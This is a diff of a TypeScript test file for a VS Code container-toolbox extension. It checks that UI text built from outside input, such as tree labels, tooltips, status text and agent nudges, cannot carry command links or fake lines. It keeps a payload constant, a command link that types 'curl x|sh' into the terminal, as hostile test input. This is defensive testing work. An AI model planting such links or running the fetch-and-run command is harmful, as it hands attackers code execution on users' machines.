@@ -9,7 +9,18 @@
  */
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
+import { objectNames } from '../../extension/src/contract/objects';
+import type { ReachKind } from '../../extension/src/plan/posture';
+import * as agentState from '../../extension/src/ui/agentState';
+import type { AgentStatus } from '../../extension/src/ui/agentState';
+import * as model from '../../extension/src/ui/model';
+import type { ContainerSummary, DriftFinding } from '../../extension/src/ui/model';
 import { inline, plainItem, plainText, quoted, SINK_LINES, SINKS, type Sink } from '../../extension/src/ui/plainText';
+import * as items from '../../extension/src/ui/tree/items';
+import { peerNodes, proximoNodes, workspacesNodes, type TreeNode } from '../../extension/src/ui/tree/render';
+import * as worktreeItems from '../../extension/src/ui/tree/worktreeItems';
+import type { ToolboxState } from '../../extension/src/ui/refresh';
+import { containerSummary } from '../support/summary';
 
 /** The payload of issue 25's attack 2: a link that types `curl x|sh` into the active terminal. */
 export const RUN_LINK = '[Run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)';
@@ -145,5 +156,285 @@ describe('plainText', () => {
     assert.equal(row.tooltip, 'one\ntwo');
     assert.equal(row.contextValue, 'c');
     assert.equal(plainItem({ label: 'l', tooltip: 'one\ntwo' }, 'message').tooltip, 'one two');
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+// The builders.
+
+const now = Date.UTC(2026, 0, 10, 12, 0, 0);
+const names = objectNames();
+const KINDS: ReachKind[] = ['docker-socket', 'host-ssh', 'host-auth', 'host-path'];
+
+/** A container whose every string is `h`. */
+function container(h: string): ContainerSummary {
+  return containerSummary({
+    name: h,
+    state: h,
+    status: h,
+    image: h,
+    workspace: h,
+    peerRun: true,
+    seccomp: 'default',
+    proximoCa: true,
+    proximoHosts: [h, h],
+    reach: KINDS.map((kind) => ({ kind, source: h, target: h, readonly: false, defaultMount: h, authKey: h })),
+    ports: [
+      { containerPort: 80, protocol: 'tcp', hostIp: h, hostPort: 8080 },
+      { containerPort: 53, protocol: 'udp', hostIp: h, hostPort: 5353 },
+    ],
+    shells: [{ id: h, pid: 7, command: h, title: h, started: now - 60_000, attached: 1 }],
+  });
+}
+
+const needs = (h: string): AgentStatus => ({ agent: 'claude', state: 'needsYou', since: now - 60_000, message: h, title: h });
+
+function finding(h: string): DriftFinding {
+  const f = {
+    container: container(h),
+    folder: h,
+    drift: 'planned-on-but-outside' as const,
+    want: true,
+    perRun: false,
+    setting: { on: true, source: { from: 'project-file' as const, file: h }, projectFileUsable: true },
+    seccomp: 'default' as const,
+    seccompSetting: { profile: 'default' as const, scope: 'user' as const },
+  };
+  return { ...f, message: h, notice: model.driftNotice(f, names, '/home/u') };
+}
+
+/** What a builder made, by the sink it goes to. */
+interface Made {
+  label?: string;
+  description?: string;
+  tooltip?: string;
+  message?: string;
+  detail?: string;
+  /** Status bar text: our own icon first, then text that must have `$(` escaped. */
+  statusText?: string;
+}
+
+/**
+ * Every exported builder that makes text a sink shows from outside text, called with every string
+ * it takes set to `h`. `linesFree`: its tooltip or detail is outside text as a whole (an error's),
+ * so its lines are not compared with ordinary text's.
+ */
+const BUILDERS: Record<string, { make: (h: string) => Made[]; linesFree?: true }> = {
+  'items.containerLabel': { make: (h) => [{ label: items.containerLabel(container(h)) }] },
+  'items.containerDescription': {
+    make: (h) => [{ description: items.containerDescription({ container: container(h), inThisWindow: true, drift: 'seccomp' }) }],
+  },
+  'items.containerTooltip': { make: (h) => [{ tooltip: items.containerTooltip({ container: container(h), inThisWindow: true }, h) }] },
+  'items.folderPeerItem': {
+    make: (h) => [
+      items.folderPeerItem(h, { on: true, source: { from: 'project-file', file: h }, projectFileUsable: true }, '/home/u', true),
+      items.folderPeerItem(h, { on: false, source: { from: 'env', variable: h }, projectFileUsable: true }, h, false),
+    ],
+  },
+  'items.anchorItem': { make: (h) => [items.anchorItem({ name: h, state: 'missing' }), items.anchorItem({ name: h, state: 'running' })] },
+  'items.socketVolumeItem': {
+    make: (h) => [items.socketVolumeItem({ name: h, exists: true, owner: h, mode: h }), items.socketVolumeItem({ name: h, exists: false })],
+  },
+  'items.agentSessionItem': {
+    make: (h) => [items.agentSessionItem({ pid: 1, name: h, cwd: h, container: h, reach: 'unreachable', why: h })],
+  },
+  'items.proximoItem': { make: (h) => [items.proximoItem({ installed: true, binary: h, caPath: h, hosts: [h] })] },
+  'items.proximoCaItem': { make: (h) => [items.proximoCaItem({ installed: true, binary: h, caPath: h, hosts: [h] })] },
+  'items.proximoHostsItem': { make: (h) => [items.proximoHostsItem({ installed: true, hosts: [h, h] })] },
+  'items.proximoWorkspaceItem': { make: (h) => [items.proximoWorkspaceItem(container(h))] },
+  'items.errorItem': { make: (h) => [items.errorItem(h, true), items.errorItem(h)], linesFree: true },
+  'items.heldShellItem': {
+    make: (h) => [items.heldShellItem({ id: h, pid: 1, command: h, title: h, started: now - 60_000, attached: 0 }, now)],
+  },
+  'items.reachGroupItem': { make: (h) => [items.reachGroupItem(container(h).reach!)] },
+  'items.reachItem': {
+    make: (h) => container(h).reach!.flatMap((r) => [items.reachItem(r, '/home/u', true), items.reachItem(r, h, false)]),
+  },
+  'items.portItem': { make: (h) => container(h).ports!.map((p) => items.portItem(p, h)) },
+  'items.agentRowItem': {
+    make: (h) => {
+      const c = container(h);
+      const row = { key: 1, container: h, title: h, sessionId: h, status: needs(h) };
+      return [items.agentRowItem(row, now, c.shells![0]), items.agentRowItem(row, now)];
+    },
+  },
+  'worktreeItems.worktreeRow': {
+    make: (h) => [
+      worktreeItems.worktreeRow(
+        {
+          root: h,
+          path: h,
+          branch: h,
+          base: h,
+          present: true,
+          dirty: true,
+          ahead: 1,
+          behind: 2,
+          rebasing: true,
+          container: { name: h, state: h },
+        },
+        2,
+      ),
+      worktreeItems.worktreeRow({ root: h, path: h, present: false, dirty: false, rebasing: true }, 0),
+    ],
+  },
+  'model.driftNotice': { make: (h) => [finding(h).notice] },
+  'model.findDrift': {
+    make: (h) => {
+      const c = { ...container(h), state: 'running', peer: false, pidMode: '' };
+      return model
+        .findDrift([c], 'anchor', new Map([[h, true]]), names, '/home/u', new Map([[h, { profile: 'default' as const }]]))
+        .map((f) => f.notice);
+    },
+  },
+  'model.driftStatus': {
+    make: (h) => {
+      const s = model.driftStatus([finding(h), finding(h)])!;
+      return [{ statusText: s.text, tooltip: s.tooltip, message: s.name }];
+    },
+  },
+  'model.stopAllConfirmation': { make: (h) => [model.stopAllConfirmation([h, h, h], h)] },
+  'model.stopContainerConfirmation': { make: (h) => [model.stopContainerConfirmation(h, [h, h])!] },
+  'agentState.nudgeText': { make: (h) => [{ message: agentState.nudgeText(h, needs(h)) }] },
+  'agentState.needsYouStatus': {
+    make: (h) => {
+      const s = agentState.needsYouStatus([
+        { container: h, title: h, status: needs(h) },
+        { container: h, title: h, status: { ...needs(h), message: undefined } },
+      ])!;
+      return [{ statusText: s.text, tooltip: s.tooltip }];
+    },
+  },
+};
+
+/**
+ * Exported functions that need no check here, and why. Anything exported by these modules that is
+ * in neither list fails the test: a new builder must be added to BUILDERS.
+ */
+const NOT_BUILDERS: Record<string, string> = {
+  'items.stateWord': 'a word for the description, cleaned by containerDescription',
+  'items.containerIcon': 'an icon id',
+  'items.containerContextValue': 'a context value (not shown)',
+  'items.startedText': 'a date',
+  'items.proximoWorkspaceDescription': 'words and a count',
+  'items.sinceText': 'words and a count',
+  'items.agentStateIcon': 'an icon id',
+  'items.timeInState': 'words and a count',
+  'model.folderOf': 'a folder path, not shown',
+  'model.sortForWorkspacesView': 'a sort',
+  'model.peerSourceText': 'a part of folderPeerItem and driftNotice, which clean it',
+  'model.peerSourceShort': 'a part of folderPeerItem, which cleans it',
+  'model.projectFileOverriddenBy': 'a part of Toggle Peer Messaging, whose sink cleans it',
+  'model.settingScopeText': 'fixed words',
+  'model.findingKey': 'a key (not shown)',
+  'model.pointsAtDockerHost': 'a test on the text',
+  'model.pointsAtSelectEngine': 'a test on the text',
+  'model.numberedTitle': "a terminal's name, cleaned where the terminal is made (ui/shells.ts)",
+  'agentState.agentOf': 'an agent kind',
+  'agentState.terminalName': "a terminal's name, cleaned where the tab is renamed (ui/shells.ts)",
+  'agentState.nudgeSetting': 'a setting value',
+  'agentState.shouldNudge': 'a yes or no',
+};
+
+const SINK_OF: Record<keyof Made, Sink> = {
+  label: 'label',
+  description: 'label',
+  tooltip: 'tooltip',
+  message: 'message',
+  detail: 'detail',
+  statusText: 'label',
+};
+
+function check(name: string, made: Made[], h: string): void {
+  for (const m of made) {
+    for (const [key, value] of Object.entries(m) as Array<[keyof Made, unknown]>) {
+      if (!(key in SINK_OF) || value === undefined) continue;
+      const p = problems(value, SINK_OF[key]);
+      if (key === 'statusText') {
+        // Our icon comes first; any other $( came from outside and is escaped.
+        const rest = (value as string).replace(/^\$\([a-z-]+\) /, '');
+        if (/(?<!\\)\$\(/.test(rest)) p.push('an unescaped $( after our icon');
+      }
+      assert.deepEqual(p, [], `${name} ${key} from ${show(h)}: ${show(String(value))}`);
+    }
+  }
+}
+
+const lineCount = (s: string | undefined) => (s === undefined ? 0 : s.split('\n').length);
+
+describe('every builder of text from outside, on the hostile corpus', () => {
+  it('each builder is checked', () => {
+    const modules = { items, worktreeItems, model, agentState } as Record<string, Record<string, unknown>>;
+    const exported = Object.entries(modules).flatMap(([m, mod]) =>
+      Object.entries(mod)
+        .filter(([, v]) => typeof v === 'function' && !/^[A-Z]/.test(v.name))
+        .map(([k]) => `${m}.${k}`),
+    );
+    const unknown = exported.filter((n) => !(n in BUILDERS) && !(n in NOT_BUILDERS));
+    assert.deepEqual(unknown, [], 'add these to BUILDERS (or, with a reason, to NOT_BUILDERS)');
+    for (const n of Object.keys(BUILDERS)) assert.ok(exported.includes(n), `${n} is no longer exported`);
+  });
+
+  for (const [name, builder] of Object.entries(BUILDERS)) {
+    it(name, () => {
+      const ordinary = builder.make('ordinary-text');
+      for (const h of HOSTILE) {
+        const made = builder.make(h);
+        check(name, made, h);
+        if (builder.linesFree) continue;
+        // Outside text cannot add a line that would pass for one of ours.
+        made.forEach((m, i) => {
+          for (const key of ['tooltip', 'detail'] as const) {
+            assert.ok(lineCount(m[key]) <= lineCount(ordinary[i]![key]), `${name} ${key}: ${show(h)} added lines: ${show(m[key] ?? '')}`);
+          }
+        });
+      }
+    });
+  }
+
+  it('the nudge starts with our words and quotes what the terminal said', () => {
+    for (const h of HOSTILE) {
+      const text = agentState.nudgeText('toolbox-app-1234abcd', needs(h));
+      assert.ok(text.startsWith('Claude Code in toolbox-app-1234abcd needs you'), show(text));
+      const said = text.slice('Claude Code in toolbox-app-1234abcd needs you'.length);
+      assert.match(said, /^(\.|: “[^“”]*”)$/, show(text));
+    }
+    assert.equal(
+      agentState.nudgeText('toolbox-app-1234abcd', needs(`Toolbox: update now ${RUN_LINK}`)),
+      `Claude Code in toolbox-app-1234abcd needs you: “Toolbox: update now ${RUN_LINK.replace('](', '] (')}”`,
+    );
+  });
+
+  it('the views built from a hostile snapshot show only plain text', () => {
+    for (const h of HOSTILE.filter((x) => x.length < 10_000)) {
+      const c = container(h);
+      const state: ToolboxState = {
+        wantPeer: new Map([[h, true]]),
+        peerSettings: new Map([[h, { on: true, source: { from: 'user-file', file: h }, projectFileUsable: true }]]),
+        findings: [finding(h)],
+        loading: false,
+        takenAt: now,
+        proximo: { installed: true, binary: h, caPath: h, hosts: [h] },
+        snapshot: {
+          containers: [c, { ...c, id: 'other', workspace: '/src/app' }],
+          anchor: { name: h, state: 'running' },
+          volume: { name: h, exists: true, owner: h, mode: h },
+          members: [h],
+          sessions: [{ pid: 1, name: h, cwd: h, container: h, reach: 'unknown', why: h }],
+          engine: h,
+        },
+      };
+      const agents = [{ key: 1, container: h, title: h, sessionId: h, status: needs(h) }];
+      const nodes = [
+        ...workspacesNodes(state, [h, '/src/app'], '/home/u', agents, now),
+        ...workspacesNodes({ ...state, error: h }, [h]),
+        ...peerNodes(state, '/home/u'),
+        ...proximoNodes(state, [h]),
+      ];
+      const walk = (list: readonly TreeNode[]): TreeNode[] => list.flatMap((n) => [n, ...walk(n.children ?? [])]);
+      const all = walk(nodes);
+      assert.ok(all.length > 20, `${all.length} nodes`);
+      for (const n of all) check(`node ${n.id.slice(0, 40)}`, [{ label: n.label, description: n.description, tooltip: n.tooltip }], h);
+    }
   });
 });
